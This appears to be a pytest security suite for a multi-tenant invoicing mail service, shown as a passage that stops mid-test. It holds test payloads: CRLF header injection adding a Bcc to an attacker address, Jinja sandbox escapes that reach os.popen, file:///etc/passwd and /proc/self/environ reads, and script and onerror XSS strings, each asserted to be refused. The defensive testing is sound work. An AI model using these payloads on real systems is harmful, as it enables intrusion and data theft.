"""The attack catalogue (issue 7, "Hostile input"): each attack on dunmail, one test each.

Many of these defences are also tested beside the code they protect; here every attack is
spelt out in one place, through the real paths (import -> outbox -> bytes on the wire, the
sandbox, WeasyPrint, the inbox in Chromium, inbound mail, links, the API, the logs), on SQLite
and PostgreSQL where a database is involved.

1. CRLF header injection through every customer-controlled field that can reach a header
2. Jinja sandbox escapes in tenant templates
3. WeasyPrint asked for http://, file:///etc/passwd and another tenant's asset
4. <script>/onerror= in bounce diagnostics, subjects and reply bodies, in Chromium
5. forged bounces trying to suppress an address
6. tampered, expired, revoked and cross-tenant links
7. API calls with another tenant's key
8. secrets never in logs
"""

from __future__ import annotations

import asyncio
import copy
import email
import io
import logging
import re
import sys
import threading
from collections.abc import Iterator
from datetime import timedelta
from email import policy
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from pydantic import ValidationError
from sqlmodel import Session, select

from dunmail.app import Services, build_services
from dunmail.preview import build_preview
from dunmail.web.apikeys import create_key
from dunmail.web.link_service import revoke_links
from mailer.attachment import plan_pdf
from mailer.clock import FixedClock
from mailer.compose import Attachment, Draft, build_message, to_bytes
from mailer.db import session_scope
from mailer.errors import TemplateError
from mailer.kinds import KINDS, sample_context
from mailer.links import issue_link, verify_link
from mailer.models import Customer, Hold, Suppression, TemplateOverride
from mailer.outbox import Claimed
from mailer.overrides import validate_override
from mailer.render import Renderer
from mailer.transport import MemoryTransport, SentMail
from tests.conftest import DEMO_DOC, WEASYPRINT_SKIP, make_config
from tests.smtpd import RecordingServer
from tests.test_bounce_ingest import _sent, dsn
from tests.test_cli import ROOT, _env
from tests.test_web_ui import PASSWORD, add_user, fast_argon2, reply

__all__ = ["fast_argon2"]  # a fixture used here, imported from test_web_ui


@pytest.fixture
def relay_env(
    two_tenant_env: tuple[Services, MemoryTransport],
) -> tuple[Services, MemoryTransport]:
    """conftest's ``relay_env`` plus a second tenant, "beta" (what ``web_server`` serves)."""
    return two_tenant_env


# -- 1. CRLF header injection ------------------------------------------------------------------

# What an attacker appends to a field: a header of their own, then one more for good measure.
INJECTED = "\r\nBcc: evil@attacker.example\r\nX-Injected: 1"
# Every way a value could try to break a header line: CRLF, bare LF or CR, NUL, the other
# ASCII and Unicode line separators, escape and the C0 controls some parsers mis-handle.
BREAKS = ["\r\n", "\n", "\r", "\0", "\x0b", "\x0c", "\x1b", "\x85", "\u2028", "\u2029"]
_HEADER_LINE = re.compile(rb"[!-9;-~]+:[ \t][ -~]*|[ \t]+[ -~]*")


def assert_no_injected_header(data: bytes) -> None:
    """Every header line of the message and of each MIME part is well formed (RFC 5322
    s2.2: printable ASCII name, colon, printable value; continuations start with blank
    space) and no part carries a Bcc or X-Injected header."""
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")
    assert b"\r" not in data.replace(b"\r\n", b"") and b"\0" not in data
    parsed = email.message_from_bytes(data, policy=policy.SMTP)
    for part in parsed.walk():
        assert part.get_all("Bcc") is None and part.get_all("X-Injected") is None
        assert not part.defects, part.defects
    # The raw header blocks: the message's, and each part's (after its boundary line).
    blocks = [data.split(b"\r\n\r\n", 1)[0]]
    for boundary in re.findall(rb'boundary="([^"]+)"', blocks[0] + data):
        for chunk in data.split(b"--" + boundary + b"\r\n")[1:]:
            blocks.append(chunk.split(b"\r\n\r\n", 1)[0])
    for block in blocks:
        for line in block.split(b"\r\n"):
            assert _HEADER_LINE.fullmatch(line), line
            assert not re.match(rb"(?i)(bcc|x-injected):", line), line


def _evil_document() -> dict[str, Any]:
    """DEMO_DOC plus one of every document, each customer-controlled text carrying INJECTED."""
    evil = INJECTED
    doc = copy.deepcopy(DEMO_DOC)
    customer = doc["customers"][0]
    customer["name"] = "Globex" + evil
    customer["contacts"] = [{"email": "ap@globex.example", "name": "AP" + evil, "roles": ["ap"]}]
    invoice = doc["invoices"][0]
    invoice["number"] = "INV-1042" + evil
    invoice["lines"][0]["description"] = "Support" + evil
    doc["credit_notes"] = [
        {
            **{"id": "cn-1", "number": "CN-7" + evil, "customer": "C-1", "currency": "EUR"},
            **{"issued_at": "2026-03-01", "invoice": "i-1042", "reason": "Goodwill" + evil},
            "lines": [{"description": "Goodwill" + evil, "quantity": "1", "unit_price": "10"}],
        }
    ]
    doc["payments"] = [
        {
            **{"id": "p-1", "customer": "C-1", "amount": "50.00", "currency": "EUR"},
            **{"received_at": "2026-03-01T14:00:00Z", "method": "Visa" + evil},
            "receipt_number": "RCPT-5521" + evil,
            "invoices": [{"invoice": "i-1042", "amount": "50.00"}],
        }
    ]
    doc["estimates"] = [
        {
            **{"id": "est-9", "number": "EST-204" + evil, "customer": "C-1", "currency": "EUR"},
            **{"issued_at": "2026-03-01", "valid_until": "2026-04-01", "status": "sent"},
            "lines": [{"description": "Migration" + evil, "quantity": "3", "unit_price": "400"}],
        }
    ]
    return doc


async def test_crlf_in_every_imported_field_adds_no_header(
    relay_env: tuple[Services, MemoryTransport], clock: FixedClock
) -> None:
    services, transport = relay_env
    assert services.import_document(_evil_document(), tenant="acme").errors == []
    # The tenant's own subject puts the customer's name into the header too.
    services.save_template(
        "new_invoice",
        "subject",
        "{{ customer.name }}: invoice {{ invoice.number }}",
        tenant="acme",
        updated_by="t",
    )
    preview = await build_preview(
        services, "new_invoice", invoice="INV-1042" + INJECTED, tenant="acme"
    )
    assert_no_injected_header(preview.data)
    for _ in range(4):  # new invoice after its grace, receipt, credit note, estimate
        clock.advance(timedelta(hours=4))
        await services.tick()
    kinds = {row["kind"]: row for row in services.outbox_rows()}
    assert set(kinds) >= {"new_invoice", "payment_receipt", "credit_note", "estimate"}
    assert all(row["status"] == "sent" for row in kinds.values()), kinds
    for sent in transport.sent:
        assert_no_injected_header(sent.data)
        assert sent.recipients == ("ap@globex.example",)
        subject = email.message_from_bytes(sent.data, policy=policy.default)["Subject"]
        assert "Bcc: evil@attacker.example X-Injected: 1" in subject  # flattened, not obeyed


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the database plays no part
async def test_crlf_in_a_contact_address_is_refused_at_import_naming_the_field(
    relay_env: tuple[Services, MemoryTransport],
) -> None:
    services, _ = relay_env
    doc = copy.deepcopy(DEMO_DOC)
    doc["customers"][0]["contacts"][1]["email"] = "billing@globex.example" + INJECTED
    doc["customers"][0]["contacts"][0]["email"] = "ap@globex.example\r\n"
    errors = [str(e) for e in services.import_document(doc, tenant="acme").errors]
    assert len(errors) == 2, errors
    assert errors[0].startswith("customers[0].contacts[0].email")
    assert errors[1].startswith("customers[0].contacts[1].email")


async def test_any_line_break_or_control_in_a_number_still_sends_a_well_formed_message(
    relay_env: tuple[Services, MemoryTransport], db_url: str
) -> None:
    services, transport = relay_env
    doc = copy.deepcopy(DEMO_DOC)
    template = doc["invoices"].pop()
    for n, brk in enumerate(BREAKS):
        number = f"INV-{n}{brk}Bcc: evil@attacker.example{brk}X-Injected: 1"
        doc["invoices"].append({**template, "id": f"i-{n}", "number": number})
    errors = [str(e) for e in services.import_document(doc, tenant="acme").errors]
    if "postgresql" in db_url:
        # PostgreSQL text cannot hold NUL: that one is refused at import, naming the record.
        nul = BREAKS.index("\0")
        assert len(errors) == 1 and errors[0].startswith(f"invoices[{nul}]"), errors
    else:
        assert errors == []
    for invoice in doc["invoices"]:
        if "\0" in invoice["number"] and errors:
            continue
        message = await services.send_invoice(invoice["number"], kind="new_invoice", tenant="acme")
        assert message.status == "sent", (invoice["number"], message.last_error)
        assert_no_injected_header(transport.sent[-1].data)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the database plays no part
async def test_crlf_in_any_kinds_context_never_reaches_a_header(
    relay_env: tuple[Services, MemoryTransport],
) -> None:
    """Every kind's customer-controlled text (numbers, names, plan, method, reason, lines) and
    the PDF file name made from its number, through the assembler the outbox and preview use."""
    services, _ = relay_env
    tenant_id = services.tenant_id("acme")
    profile = services.outbox.profile(tenant_id)
    for kind in sorted(KINDS):
        context = sample_context(kind, locale="en")
        tenant = context.pop("tenant")  # the tenant's name and look are config, not data
        context = {**_poisoned(context), "tenant": tenant}
        snapshot = Claimed(
            id=0,
            uid="0123456789abcdef0123",
            tenant_id=tenant_id,
            kind=kind,
            context=context,
            created_at=services.clock.now(),
            attempts=0,
            recipients=("ap@globex.example",),
            previously_accepted=0,
        )
        envelope = profile.identity.envelope(snapshot.uid)
        built = await services.assembler.with_pdfs(None).assemble(
            snapshot, profile.sender, envelope, now=snapshot.created_at
        )
        assert_no_injected_header(built.data)
        target = plan_pdf(kind, context)
        if target is not None:  # the attachment's file name comes from the document's number
            draft = Draft(
                uid=snapshot.uid,
                message_id_domain="acme.example",
                date=snapshot.created_at,
                to=[],
                envelope=envelope,
                attachments=[Attachment(filename=target.filename, content=b"%PDF-1.7")],
            )
            rendered = services.renderer.render(kind, context)
            assert_no_injected_header(to_bytes(build_message(rendered, draft)))


_POISONED_KEYS = {"number", "receipt_number", "reference", "name", "plan", "method", "reason"}


def _poisoned(value: Any, key: str = "") -> Any:
    """``value`` with INJECTED appended to every customer-controlled text in it."""
    if isinstance(value, dict):
        return {k: _poisoned(v, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_poisoned(v, key) for v in value]
    if isinstance(value, str) and key in _POISONED_KEYS | {"description"}:
        return value + INJECTED
    return value


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the database plays no part
async def test_a_tenant_subject_cannot_inject_a_header(
    relay_env: tuple[Services, MemoryTransport],
) -> None:
    services, _ = relay_env
    for source in (
        "Invoice {{ invoice.number }}\r\nBcc: evil@attacker.example",
        'Invoice {{ invoice.number }}{{ "\\r\\nBcc: evil@attacker.example" }}',
        'Invoice {{ invoice.number ~ "\\nX-Injected: 1" }}',
    ):
        with pytest.raises(TemplateError, match="line [12]: a subject must render to one line"):
            services.save_template("new_invoice", "subject", source, tenant="acme", updated_by="t")
    assert services.template_overrides("new_invoice", tenant="acme") == {}


# -- 2. Jinja sandbox escapes --------------------------------------------------------------------

ESCAPES = [
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ joiner.__init__.__globals__.os }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}",
    "{{ config.items() }}",
    "{{ request }}",
    "{{ request.application.__globals__ }}",
    "{{ range.__self__ }}",
    "{{ range.__call__.__self__.__dict__ }}",
    "{{ range(100000000) | list | length }}",
    "{{ '{0.__class__}'.format(1) }}",
    "{{ '{0.__class__.__mro__}'.format(invoice) }}",
    "{{ '{0[__class__]}'.format(invoice) }}",
    "{{ '{a.__class__}'.format_map({'a': 1}) }}",
    "{{ '' | attr('__class__') }}",
    "{{ invoice | attr('_' ~ '_class_' ~ '_') }}",
    "{{ (invoice | attr('__cl' ~ 'ass__')).__base__ }}",
    "{{ gettext.__globals__ }}",
    "{{ _.__closure__ }}",
    "{{ invoice['__class__'] }}",
    "{% set x = cycler %}{{ x.__init__ }}",
    "{{ dict.__class__ }}",
    "{% include '/etc/passwd' %}",
    "{% include '../../../../etc/passwd' %}",
    "{% import '../pdf/invoice.html' as x %}",
]
# What leaking Python internals into an email would look like.
INTERNALS = re.compile(r"<class |<function |<built-in|<module |__\w+__|root:x:0:0|mro|globals")


@pytest.mark.parametrize("part", ["text", "html"])
@pytest.mark.parametrize("source", ESCAPES)
def test_sandbox_escapes_are_refused_when_saved_and_at_render(
    source: str, part: str, renderer: Renderer
) -> None:
    full = (
        f'{{% extends "_layout.html" %}}{{% block content %}}{source}{{% endblock %}}'
        if part == "html"
        else source
    )
    with pytest.raises(TemplateError) as refused:
        validate_override("new_invoice", part, full, renderer=renderer)
    assert re.match(r"line \d+: |when rendered with sample data: ", str(refused.value))
    # Stored by hand past the check, it still cannot run: the sandbox refuses at render time,
    # or it renders without reaching anything internal.
    context = sample_context("new_invoice", locale="en")
    try:
        rendered = renderer.render("new_invoice", context, overrides={part: full})
    except TemplateError as exc:
        assert "Traceback" not in str(exc)
        return
    assert not INTERNALS.search(rendered.text + (rendered.html or ""))


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the database plays no part
async def test_a_refused_template_is_never_stored_or_sent(
    relay_env: tuple[Services, MemoryTransport],
) -> None:
    services, transport = relay_env
    for source in ESCAPES[:8]:
        with pytest.raises(TemplateError):
            services.save_template("new_invoice", "text", source, tenant="acme", updated_by="t")
    with Session(services.engine) as session:
        assert session.exec(select(TemplateOverride)).all() == []
    sent = await _sent(services, transport)
    assert not INTERNALS.search(sent.data.decode("ascii", "replace"))


# -- 5. forged bounces -------------------------------------------------------------------------


async def test_forged_bounces_suppress_nothing(
    relay_env: tuple[Services, MemoryTransport],
) -> None:
    services, transport = relay_env
    sent = await _sent(services, transport)
    local, _, domain = sent.sender.partition("@")
    prefix, _, mac = local.rpartition("-")
    forged_mac = f"{prefix}-{'0' * len(mac)}@{domain}"
    no_mac = f"{prefix}@{domain}"
    # Without the original's headers: only the (forged) VERP address could attribute it.
    bare = b"Content-Type: text/plain\r\n\r\n"
    summary = services.ingest_inbound(
        [
            ("file:forged-mac.eml", dsn(sent, envelope_to=forged_mac, original=bare)),
            ("file:no-mac.eml", dsn(sent, envelope_to=no_mac, original=bare)),
            ("file:other-tenant.eml", dsn(sent, envelope_to="bounces@beta.example", original=bare)),
        ]
    )
    assert (summary.stored, summary.matched, summary.unmatched) == (3, 0, 3)
    assert summary.suppressed == []
    assert len(services.inbox_unmatched()) == 3
    # Genuine VERP, but the bounce names someone this email never went to: nobody is blocked.
    stranger = dsn(
        sent,
        recipient="ceo@globex.example",
        diagnostic="smtp; 550 5.1.1 <ceo@globex.example>: User unknown",
    )
    assert services.ingest_inbound([("file:stranger.eml", stranger)]).suppressed == []
    with Session(services.engine) as session:
        assert session.exec(select(Suppression)).all() == []
    assert services.suppressions(tenant="acme") == []


# -- 6. links ----------------------------------------------------------------------------------


def _view_token(sent: SentMail, services: Services) -> str:
    parsed = email.message_from_bytes(sent.data, policy=policy.default)
    assert isinstance(parsed, EmailMessage)
    body = parsed.get_body(preferencelist=("plain",))
    assert body is not None
    for token in re.findall(r"/l/([A-Za-z0-9_-]+\.[A-Za-z0-9_-]+)", body.get_content()):
        if verify_link(token, keys=services.link_keys, now=services.clock.now()).purpose == "view":
            return str(token)
    raise AssertionError("no view link in the email")


def _flip(text: str, at: int) -> str:
    return text[:at] + ("A" if text[at] != "A" else "B") + text[at + 1 :]


def _refused(response: httpx.Response, status: int) -> None:
    assert response.status_code == status, response.text
    assert "location" not in response.headers
    assert "INV-1042" not in response.text and "Globex" not in response.text


async def test_tampered_expired_revoked_and_cross_tenant_links_lead_nowhere(
    relay_env: tuple[Services, MemoryTransport], web_server: str, clock: FixedClock
) -> None:
    services, transport = relay_env
    view = _view_token(await _sent(services, transport), services)
    payload, mac = view.split(".")
    claims = verify_link(view, keys=services.link_keys, now=clock.now())
    cross = issue_link(
        "view",
        services.tenant_id("beta"),
        claims.document,
        claims.version,
        key=services.link_keys[0],
        expires_at=claims.expires_at,
        message=claims.message,
    )
    evil = {"next": "https://evil.example/", "url": "https://evil.example/"}
    async with httpx.AsyncClient(base_url=web_server, follow_redirects=False) as client:
        assert (await client.get(f"/l/{view}")).status_code == 200
        tampered = [
            f"{_flip(payload, 3)}.{mac}",
            f"{payload}.{_flip(mac, 3)}",
            f"{payload}.",
            f"{payload}.{mac}{mac}",
            payload,
            "x.y",
        ]
        for token in [*tampered, cross]:
            for suffix in ("", "/pdf"):
                _refused(await client.get(f"/l/{token}{suffix}", params=evil), 404)
            _refused(await client.post(f"/l/{token}/refresh"), 404)

        clock.set(claims.expires_at + timedelta(seconds=1))
        expired = await client.get(f"/l/{view}", params=evil)
        assert expired.status_code == 410 and "location" not in expired.headers
        assert "evil.example" not in expired.text
        clock.set(claims.expires_at - timedelta(days=1))

        revoke_links(services, tenant="acme", invoice="INV-1042", by="t")
        revoked = await client.get(f"/l/{view}", params=evil)
        assert revoked.status_code == 410 and "location" not in revoked.headers
        assert (await client.get(f"/l/{view}/pdf")).status_code == 410


# -- 7. another tenant's API key ---------------------------------------------------------------


def _api_key(services: Services, slug: str) -> str:
    with session_scope(services.engine) as session:
        _, key = create_key(
            session, tenant_id=services.tenant_id(slug), name="erp", now=services.clock.now()
        )
    return key


async def test_another_tenants_key_reads_and_touches_nothing(
    relay_env: tuple[Services, MemoryTransport], web_server: str
) -> None:
    services, transport = relay_env
    acme = {"Authorization": f"Bearer {_api_key(services, 'acme')}"}
    beta = {"Authorization": f"Bearer {_api_key(services, 'beta')}"}
    base = f"{web_server}/api/v1"
    async with (
        httpx.AsyncClient(base_url=base, headers=acme) as a,
        httpx.AsyncClient(base_url=base, headers=beta) as b,
    ):
        message = (await a.post("/invoices/INV-1042/send", json={"kind": "new_invoice"})).json()
        services.ingest_inbound([("file:b.eml", dsn(transport.sent[-1]))])
        (thread,) = (await a.get("/threads")).json()
        hold = (await a.post("/holds", json={"invoice": "INV-1042", "reason": "dispute"})).json()
        sent_before = len(transport.sent)

        assert (await b.get(f"/messages/{message['uid']}")).status_code == 404
        assert (await b.get(f"/threads/{thread['id']}")).status_code == 404
        assert (await b.get("/invoices/INV-1042")).status_code == 404
        assert (await b.get("/messages")).json()["items"] == []
        assert (await b.get("/threads")).json() == []
        assert (await b.get("/holds")).json() == []
        assert (await b.get("/suppressions")).json() == []
        writes = [
            b.post("/holds", json={"invoice": "INV-1042", "reason": "dispute"}),
            b.post("/holds", json={"customer": "C-1", "reason": "manual"}),
            b.delete(f"/holds/{hold['id']}"),
            b.post("/invoices/INV-1042/send", json={"kind": "invoice_reminder"}),
            b.post("/invoices/INV-1042/mark-sent"),
        ]
        for write in writes:
            response = await write
            assert response.status_code == 404, response.text
        # A record under the same external id is beta's own; acme's stays as it was.
        customer = {"id": "C-1", "name": "Hijacked", "time_zone": "UTC", "contacts": []}
        assert (await b.post("/customers", json=customer)).status_code == 200

        assert len(transport.sent) == sent_before
        assert [h["id"] for h in (await a.get("/holds")).json()] == [hold["id"]]
        assert (await a.get("/invoices/INV-1042")).json()["sent_at"] is not None
    with Session(services.engine) as session:
        (row,) = session.exec(select(Hold)).all()
        assert row.lifted_at is None and row.tenant_id == services.tenant_id("acme")
        names = {(c.tenant_id, c.name) for c in session.exec(select(Customer)).all()}
    assert names == {
        (services.tenant_id("acme"), "Globex"),
        (services.tenant_id("beta"), "Hijacked"),
    }
    assert services.inbox(tenant="beta", status=None) == []


# -- 3. WeasyPrint asked for the network, the server's files and another tenant's asset -----------


class _Listener(BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self) -> None:
        self.requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:  # keep the test output quiet
        pass


@pytest.fixture
def http_listener() -> Iterator[tuple[str, list[str]]]:
    """A real loopback HTTP server recording every request it gets (none may arrive)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
    _Listener.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", _Listener.requests
    finally:
        server.shutdown()
        server.server_close()


def _pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def _png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (60, 20), (11, 110, 79)).save(out, format="PNG")
    return out.getvalue()


@pytest.mark.skipif(WEASYPRINT_SKIP is not None, reason=WEASYPRINT_SKIP or "")
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_the_invoice_pdf_fetches_nothing_from_the_network_or_the_disk(
    tmp_path: Path, db_url: str, clock: FixedClock, http_listener: tuple[str, list[str]]
) -> None:
    from mailer.pdf import PDFRenderer

    base, requests = http_listener
    # The only URL a tenant configures is its logo, and only as http(s).
    with pytest.raises(ValidationError, match="logo_url must be an http"):
        make_config(
            tmp_path,
            db_url,
            tenants={
                "acme": {
                    "name": "Acme",
                    "email": "ar@acme.example",
                    "branding": {"logo_url": "file:///etc/passwd"},
                }
            },
        )
    config = make_config(
        tmp_path,
        db_url,
        pdfs=True,
        tenants={
            "acme": {
                "name": "Acme Supplies",
                "email": "ar@acme.example",
                "branding": {"logo_url": f"{base}/logo.png"},
            }
        },
    )
    services = build_services(config, clock, MemoryTransport(), pdf_renderer=PDFRenderer(workers=0))
    try:
        doc = copy.deepcopy(DEMO_DOC)
        # Markup in customer data that would load things if it were not escaped.
        doc["customers"][0]["name"] = f'Globex <img src="{base}/name.png">'
        doc["invoices"][0]["lines"][0]["description"] = (
            '<link rel="stylesheet" href="file:///etc/passwd">'
            f'<iframe src="file:///etc/passwd"></iframe><img src="{base}/line.png">'
        )
        assert services.import_document(doc, tenant="acme").errors == []
        preview = await build_preview(services, "new_invoice", invoice="INV-1042", tenant="acme")
    finally:
        await services.close()
    assert preview.pdf == "INV-1042.pdf", preview.pdf_skipped
    parsed = email.message_from_bytes(preview.data, policy=policy.default)
    assert isinstance(parsed, EmailMessage)
    (attachment,) = list(parsed.iter_attachments())
    pdf = attachment.get_content()
    assert pdf.startswith(b"%PDF-")
    assert requests == []  # neither the logo nor anything in the data was fetched
    text = _pdf_text(pdf)
    assert "root:" not in text and "/bin/" not in text
    assert "etc/passwd" in text  # the markup is printed as text, not obeyed
    assert b"/Image" not in pdf


@pytest.mark.skipif(WEASYPRINT_SKIP is not None, reason=WEASYPRINT_SKIP or "")
def test_tenant_css_and_logo_reach_only_the_assets_of_their_own_render(
    http_listener: tuple[str, list[str]], caplog: pytest.LogCaptureFixture
) -> None:
    from mailer.pdf import render_document
    from mailer.pdf_samples import sample_pdf_context

    base, requests = http_listener
    acme = sample_pdf_context("invoice", lines=1)
    acme["tenant"]["logo_url"] = "asset:acme-logo.png"
    drawn = render_document("invoice", acme, assets={"asset:acme-logo.png": _png()})
    assert b"/Image" in drawn.data  # acme's own logo, handed to acme's render

    beta = sample_pdf_context("invoice", lines=1)
    beta["tenant"]["logo_url"] = "asset:acme-logo.png"  # acme's asset, by name
    css = (
        f"@import url({base}/import.css);\n"
        f".letterhead {{ background-image: url({base}/bg.png) }}\n"
        "h1 { background-image: url(asset:acme-logo.png) }\n"
        ".tenant-name::after { content: url(file:///etc/passwd) }\n"
        "body::before { content: url(file:///proc/self/environ) }\n"
    )
    with caplog.at_level(logging.WARNING, logger="mailer.pdf_fetch"):
        rendered = render_document("invoice", beta, tenant_css=css)
    assert requests == []
    assert b"/Image" not in rendered.data  # no logo: acme's asset is not beta's
    text = _pdf_text(rendered.data)
    assert "root:" not in text and "PATH=" not in text
    refused = " ".join(r.getMessage() for r in caplog.records)
    for url in (
        f"{base}/import.css",
        f"{base}/bg.png",
        "asset:acme-logo.png",
        "file:///etc/passwd",
    ):
        assert url in refused


# -- 4. script in the inbox, in Chromium ---------------------------------------------------------

CHROMIUM = Path("/usr/bin/chromium")


def _chromium_reason() -> str | None:
    if not CHROMIUM.exists():
        return f"Debian's chromium is not installed at {CHROMIUM} (apt-get install chromium)"
    try:
        import playwright.async_api  # noqa: F401
    except ImportError:
        return (
            "Playwright for Python is not installed (pip install playwright; no browser download)"
        )
    return None


@pytest.mark.skipif(_chromium_reason() is not None, reason=_chromium_reason() or "")
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_script_in_a_diagnostic_subject_or_reply_never_runs_in_the_inbox(
    relay_env: tuple[Services, MemoryTransport], web_server: str, fast_argon2: None
) -> None:
    from playwright.async_api import async_playwright

    services, transport = relay_env
    sent = await _sent(services, transport)
    diagnostic = "smtp; 550 5.1.1 <script>window.pwned='diag'</script> unknown"
    subject = "Re: invoice <img src=x onerror=\"window.pwned='subject'\">"
    body = "<script>window.pwned='body'</script><svg onload=\"window.pwned='svg'\">\r\n"
    mails = [("b.eml", dsn(sent, diagnostic=diagnostic)), ("r.eml", reply(sent, subject, body))]
    assert services.ingest_inbound(mails).matched == 2
    add_user(services, "ana@acme.example")
    async with async_playwright() as p:
        browser = await p.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=["--no-sandbox"]
        )
        try:
            page = await browser.new_page(base_url=web_server)
            page.set_default_timeout(5000)
            dialogs: list[str] = []
            page.on("dialog", lambda dialog: dialogs.append(dialog.message))
            await page.goto("/login")
            await page.fill("input[name=email]", "ana@acme.example")
            await page.fill("input[name=password]", PASSWORD)
            await page.click("button:has-text('Sign in')")
            await page.wait_for_url("**/inbox")
            listed = await page.inner_text("body")
            await page.click("#threads a:has-text('INV-1042')")
            timeline = await page.inner_text("#timeline")
            pwned = await page.evaluate("window.pwned")
            injected = await page.locator("#timeline script, #timeline img, #timeline svg").count()
            await page.goto("/inbox")
            pwned_list = await page.evaluate("window.pwned")
        finally:
            await browser.close()
    assert "<script>window.pwned='diag'</script>" in timeline  # shown literally, as typed
    assert "<img src=x onerror=\"window.pwned='subject'\">" in timeline
    assert "<script>window.pwned='body'</script>" in timeline
    assert "INV-1042" in listed
    assert (pwned, pwned_list, injected, dialogs) == (None, None, 0, [])


# -- 8. secrets never in logs --------------------------------------------------------------------

SMTP_USER = "acme-mailer"
SMTP_PASSWORD = "Sm7p-pa55word-9f3c1e"
WEBHOOK_SECRET = "whsec-4b1d9e7a2c6f0835"
SECRET_KEY = "master-secret-key-0d9c8b7a6f5e4d3c2b1a"


class _Hooks(BaseHTTPRequestHandler):
    bodies: list[bytes] = []

    def do_POST(self) -> None:
        self.bodies.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        self.send_response(200)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


def _secret_config(tmp_path: Path, db_url: str, smtpd: RecordingServer, hook: str) -> Any:
    return make_config(
        tmp_path,
        db_url,
        secret_key_env="ATTACK_SECRET_KEY",
        tenants={
            "acme": {
                "name": "Acme Supplies",
                "email": "ar@acme.example",
                "delivery": "smtp",
                "smtp": {
                    "host": "127.0.0.1",
                    "port": smtpd.port,
                    "username": SMTP_USER,
                    "password_env": "ATTACK_SMTP_PASSWORD",
                    "timeout_seconds": 5,
                },
                "dkim": [
                    {
                        "domain": "acme.example",
                        "selector": "s1",
                        "key_file": str(tmp_path / "keys" / "s1.pem"),
                    }
                ],
                "webhooks": [{"url": hook, "secret_env": "ATTACK_HOOK_SECRET"}],
            }
        },
    )


def _config_toml(config: Any) -> str:
    """``config`` as the TOML file the CLI reads (the subset this test uses)."""
    acme = config.tenants["acme"]
    lines = [
        'env = "dev"',
        'secret_key_env = "ATTACK_SECRET_KEY"',
        "[database]",
        f'url = "{config.database.url}"',
        "[log]",
        'level = "DEBUG"',
        "[relay]",
        'host = "127.0.0.1"',
        "port = 9",
        'domain = "relay.example"',
        "[tenants.acme]",
        'name = "Acme Supplies"',
        'email = "ar@acme.example"',
        'delivery = "smtp"',
        "[tenants.acme.smtp]",
        'host = "127.0.0.1"',
        f"port = {acme.smtp.port}",
        f'username = "{SMTP_USER}"',
        'password_env = "ATTACK_SMTP_PASSWORD"',
        "timeout_seconds = 5",
        "[[tenants.acme.dkim]]",
        'domain = "acme.example"',
        'selector = "s1"',
        f'key_file = "{acme.dkim[0].key_file}"',
    ]
    lines += [
        f"[tenants.acme.emails.{kind}]\nattach_pdf = false"
        for kind in sorted(KINDS)
        if KINDS[kind].pdf is not None
    ]
    return "\n".join(lines) + "\n"


def _public_key_base64(pem: bytes) -> str:
    from base64 import b64encode

    from cryptography.hazmat.primitives import serialization

    key = serialization.load_pem_private_key(pem, password=None)
    der = key.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return b64encode(der).decode()


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the database plays no part
@pytest.mark.smtpd_options(auth={SMTP_USER: SMTP_PASSWORD})
async def test_secrets_never_reach_the_logs_or_the_clis_stderr(
    tmp_path: Path,
    db_url: str,
    clock: FixedClock,
    smtpd: RecordingServer,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from dunmail.web.app import create_app

    caplog.set_level(logging.DEBUG)  # the root logger: every library's records too
    monkeypatch.setenv("ATTACK_SMTP_PASSWORD", SMTP_PASSWORD)
    monkeypatch.setenv("ATTACK_HOOK_SECRET", WEBHOOK_SECRET)
    monkeypatch.setenv("ATTACK_SECRET_KEY", SECRET_KEY)
    hooks = ThreadingHTTPServer(("127.0.0.1", 0), _Hooks)
    _Hooks.bodies = []
    threading.Thread(target=hooks.serve_forever, daemon=True).start()
    try:
        config = _secret_config(
            tmp_path, db_url, smtpd, f"http://127.0.0.1:{hooks.server_address[1]}/hook"
        )
        services = build_services(config, clock)
        try:
            assert services.import_document(DEMO_DOC, tenant="acme").errors == []
            message = await services.send_invoice("INV-1042", kind="new_invoice", tenant="acme")
            assert message.status == "sent", message.last_error
            assert smtpd.logins == [SMTP_USER]  # AUTH with the password really happened
            text = smtpd.messages[-1].get_body(preferencelist=("plain",))
            assert text is not None
            tokens = re.findall(r"/l/([A-Za-z0-9_-]+\.[A-Za-z0-9_-]+)", text.get_content())
            assert tokens
            with session_scope(services.engine) as session:
                _, api_key = create_key(
                    session, tenant_id=services.tenant_id("acme"), name="erp", now=clock.now()
                )
            app = httpx.ASGITransport(app=create_app(services))
            async with httpx.AsyncClient(transport=app, base_url="http://dunmail") as client:
                for token in tokens:
                    await client.get(f"/l/{token}")
